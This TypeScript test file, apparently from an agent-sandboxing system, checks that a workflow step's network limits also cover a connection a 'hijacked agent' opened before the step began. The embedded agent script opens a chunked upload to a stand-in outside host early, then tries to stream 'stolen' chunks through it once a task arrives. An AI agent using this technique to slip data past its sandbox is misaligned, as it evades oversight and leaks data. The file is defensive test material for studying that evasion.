/** A hijacked agent opens an upload before it takes up a task of a workflow whose step may reach one page only. */
import assert from "node:assert/strict";
import { join } from "node:path";
import { after, before, test } from "node:test";
import type { AuditRow } from "../../../protocol/desk.ts";
import { attackerPrelude, eventually, printed, startMesh, type MeshFixture } from "../../fleet/running-mesh.ts";
import { startOutside, type Outside } from "../../fleet/web-place.ts";

const clerk = (at: string): string => `
import net from "node:net";
import { ask, raw, tell } from "./prelude.mjs";
const get = async (path) => Number((await raw("GET http://${at}" + path + " HTTP/1.1\\r\\nHost: ${at}\\r\\nConnection: close\\r\\n\\r\\n", 10000)).split(" ")[1] ?? 0);
const chunk = (text) => text.length.toString(16) + "\\r\\n" + text + "\\r\\n";
const upload = net.connect("/run/cordon/door.sock");
let said = "";
upload.on("data", (piece) => (said += piece)).on("error", () => {});
upload.write("POST http://${at}/long HTTP/1.1\\r\\nHost: ${at}\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n" + chunk("before"));
for (;;) {
  const { status, text } = await ask("GET", "/v1/inbox?wait_ms=20000");
  if (status !== 200) { await new Promise((resolve) => setTimeout(resolve, 200)); continue; }
  const { id } = JSON.parse(text);
  for (let i = 0; i < 100 && said === ""; i++) {
    upload.write(chunk("stolen"));
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  tell("tried", { upload: Number(said.split(" ")[1]), inside: await get("/inside"), outside: await get("/outside") });
  await ask("POST", "/v1/inbox/" + id + "/reply", { body: "done" });
  tell("after", { outside: await get("/outside") });
}
`;

let outside: Outside;
let mesh: MeshFixture | undefined;
let arrived = "";

before(async () => {
  outside = await startOutside((request, response) => {
    arrived += ` ${request.url} `;
    request.on("data", (piece: Buffer) => (arrived += piece.toString())).on("error", () => {});
    request.on("end", () => response.end("fine"));
  });
  const at = `plain.test:${outside.port}`;
  mesh = await startMesh({
    "cordon.yaml": `
version: 1
fleet: narrow
defaults: { model: rehearsal/echo, sandbox: { memory: 128MiB, cpus: 1 } }
agents:
  clerk:
    command: [/bin/node, /code/clerk.mjs]
    code: code
    may: { reach: [{ to: "http://${at}", address: 127.0.0.1 }] }
`,
    "look.yaml": `
workflow: 1
name: little
steps:
  look:
    agent: clerk
    task: look
    accepts: untrusted
    timeout: 1h
    may: { tools: [], reach: ["GET http://${at}/inside"] }
`,
    "code/prelude.mjs": attackerPrelude,
    "code/clerk.mjs": clerk(at),
  });
});

after(async () => {
  await mesh?.stop();
  await outside?.close();
});

test("the step's reach holds for what was open before it, and all that goes out in it is evidence of the step", async () => {
  assert.ok(mesh);
  const { desk, folder } = mesh;
  await eventually("the first piece", () => Promise.resolve(arrived.includes("before") || undefined));
  const { run } = await desk.startRun(join(folder, "look.yaml"), {});
  const fixture = mesh;
  const seen = async (kind: string) => (await printed(fixture, "clerk", kind))[0];
  const tried = await eventually("the attempts", () => seen("tried"), 60_000);
  assert.deepEqual([tried["upload"], tried["inside"], tried["outside"]], [403, 200, 403]);
  assert.equal((await eventually("what is allowed afterwards", () => seen("after")))["outside"], 200);
  assert.doesNotMatch(arrived, /stolen/);
  const records = await eventually("the end of the last request", async () => {
    const { records: all } = await desk.audit(0, 1_000);
    return all.filter(({ kind }) => kind === "web.settled").length === 3 ? all : undefined;
  });
  const of = (kind: string, path: string): AuditRow | undefined =>
    records.find((record) => record.kind === kind && record.detail["path"] === path);
  const upload = of("web.request", "/long");
  assert.equal(upload?.detail["run"], undefined, "it began for no step");
  const ended = records.find(
    ({ kind, detail }) => kind === "web.settled" && detail["request"] === upload?.detail["request"],
  );
  assert.deepEqual([ended?.detail["outcome"], /in this step/.test(String(ended?.detail["reason"]))], ["cut", true]);
  for (const path of ["/long", "/outside"]) {
    const refused = of("decision", path);
    assert.deepEqual([refused?.detail["run"], refused?.detail["task"]], [run, "look"], path);
    assert.match(String(refused?.detail["reason"]), /in this step `clerk` may not/);
  }
  const page = of("web.request", "/inside");
  const settled = records.find(
    ({ kind, detail }) => kind === "web.settled" && detail["request"] === page?.detail["request"],
  );
  for (const record of [page, settled])
    assert.deepEqual([record?.detail["run"], record?.detail["task"]], [run, "look"]);
});
